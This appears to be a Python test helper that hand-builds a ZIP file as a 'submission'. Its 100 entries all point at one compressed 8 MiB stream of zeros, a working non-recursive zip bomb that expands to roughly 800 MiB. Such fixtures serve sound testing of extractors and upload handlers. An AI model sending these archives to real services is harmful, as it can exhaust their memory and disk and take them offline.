"""Builds the submission: a non-recursive zip bomb: 100 entries that all point at one 8 MiB-of-zeros stream."""

import zipfile
from pathlib import Path

GOOD = (Path(__file__).parents[2] / "archives" / "GOOD_calc.py").read_text()


def build(dest, host):
    """Many entries that all point at one compressed stream (a non-recursive zip bomb)."""
    import struct
    import zlib

    data = zlib.compress(b"\0" * (8 * 2**20), 9)[2:-4]
    crc = zlib.crc32(b"\0" * (8 * 2**20))
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), 8 * 2**20, 5, 0) + b"a.bin"
    body = local + data
    central = b""
    names = [f"f{i:03d}.bin".encode() for i in range(100)]
    for name in names:
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data),
                               8 * 2**20, len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(names), len(names), len(central), len(body), 0)
    path = dest / "submission.zip"
    path.write_bytes(body + central + end)
    return path
